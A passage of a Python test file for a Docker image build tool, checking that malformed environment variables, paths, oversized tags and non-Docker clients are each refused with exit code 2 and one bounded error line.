    assert code == 2, f"{name}: exit {code}, stderr {err}"
    assert len(err) == 1 and err[0].startswith("error: templates/") and fragment in err[0], err


# The run side (issue 13, items 4-6): the environment, paths and values of the command
# line that the run reads. Each is refused with one line and exit 2 before the engine is
# asked anything (DOCKER_HOST points at nothing, so a case that got that far would fail
# with "no Docker engine answers" instead), and what is echoed is bounded.
# (id, environment, argv, fragment); {tmp} is a scratch directory holding notpem.txt.
RUN_CASES = [
    ("docker-host-garbage", {"DOCKER_HOST": "::::garbage"}, ["--tag", "1.16.0-cpu"],
     "DOCKER_HOST=::::garbage: not a Docker engine address"),
    ("source-date-epoch-huge", {"SOURCE_DATE_EPOCH": "99999999999999999"}, ["--tag", "1.16.0-cpu"],
     "SOURCE_DATE_EPOCH='99999999999999999': not a Unix time"),
    ("source-date-epoch-huge-render", {"SOURCE_DATE_EPOCH": "99999999999999999"},
     ["render", "1.16.0-cpu"], "not a Unix time in whole seconds"),
    ("source-date-epoch-word", {"SOURCE_DATE_EPOCH": "yesterday"}, ["render", "1.16.0-cpu"],
     "SOURCE_DATE_EPOCH='yesterday': not a Unix time"),
    ("render-output-dir-missing", {}, ["render", "1.16.0-cpu", "-o", "/nonexistent/dir/x"],
     "-o /nonexistent/dir/x: directory /nonexistent/dir does not exist"),
    ("render-output-is-dir", {}, ["render", "1.16.0-cpu", "-o", "{tmp}"], "is a directory"),
    ("state-dir-is-a-file", {}, ["--tag", "1.16.0-cpu", "--state-dir", "/etc/hostname"],
     "--state-dir /etc/hostname: exists and is not a directory"),
    ("state-dir-uncreatable", {}, ["test", "--tag", "1.16.0-cpu", "--state-dir", "/proc/1/x/y"],
     "--state-dir /proc/1/x/y: cannot create it"),
    ("ca-bundle-not-pem", {}, ["--tag", "1.16.0-cpu", "--ca-bundle", "{tmp}/notpem.txt"],
     "not a PEM CA bundle"),
    ("ca-bundle-env-not-pem", {"STAGECRAFT_CA_BUNDLE": "{tmp}/notpem.txt"}, ["--tag", "1.16.0-cpu"],
     "STAGECRAFT_CA_BUNDLE={tmp}/notpem.txt: not a PEM CA bundle"),
    ("huge-tag", {}, ["--tag", "x" * 10_000_000], "longer than 128 characters"),
    ("huge-repository", {}, ["--tag", "1.16.0-cpu", "--repository", "X" * 10_000_000],
     "not a valid repository name"),
    # --dry-run's input before the engine: a stage no chain has, a platform not declared.
    ("dry-run-no-such-stage", {}, ["--tag", "1.16.0-cpu", "--dry-run", "--stage", "nosuch"],
     "--stage nosuch: 1.16.0-cpu has no stage 'nosuch'"),
    ("dry-run-platform-not-declared", {}, ["--tag", "1.16.0-cpu", "--dry-run", "--platform", "linux/s390x"],
     "--platform linux/s390x: 1.16.0-cpu is built for"),
]


@pytest.mark.parametrize("case", RUN_CASES, ids=[c[0] for c in RUN_CASES])
def test_bad_run_input(case, project, capsys, monkeypatch, tmp_path):
    name, env, argv, fragment = case
    (tmp_path / "notpem.txt").write_text("not a certificate\n")
    monkeypatch.chdir(project(MINIMAL).parent)
    for k, v in env.items():
        monkeypatch.setenv(k, v.replace("{tmp}", str(tmp_path)))
    code, err = _run([a.replace("{tmp}", str(tmp_path)) for a in argv], capsys)
    assert code == 2, f"{name}: exit {code}, stderr {[e[:300] for e in err]}"
    assert len(err) == 1, f"{name}: expected one line, got {[e[:300] for e in err]}"
    assert fragment.replace("{tmp}", str(tmp_path)) in err[0], f"{name}: {err[0][:500]!r}"
    assert len(err[0]) < 1000, f"{name}: {len(err[0])} characters echoed"


def test_a_fifo_as_matrix_is_refused_not_waited_on(project, tmp_path):
    import os
    import subprocess
    import sys

    from tests.conftest import ROOT

    fifo = tmp_path / "matrix.fifo"
    os.mkfifo(fifo)
    proc = subprocess.run([sys.executable, str(ROOT / "build.py"), "--matrix", str(fifo), "--list"],
                          capture_output=True, text=True, timeout=60)
    assert proc.returncode == 2, proc.stderr
    assert "not a regular file" in proc.stderr and len(proc.stderr.strip().splitlines()) == 1


def test_a_client_that_is_not_docker_is_refused(monkeypatch):
    from stagecraft.buildpath import detect_builder
    from stagecraft.errors import InputError

    monkeypatch.setenv("STAGECRAFT_DOCKER", "/bin/true")  # exits 0 to `buildx version` too
    with pytest.raises(InputError) as exc:
        detect_builder()
    line = exc.value.problems[0].line()
    assert line.startswith("STAGECRAFT_DOCKER=/bin/true: not a docker client"), line
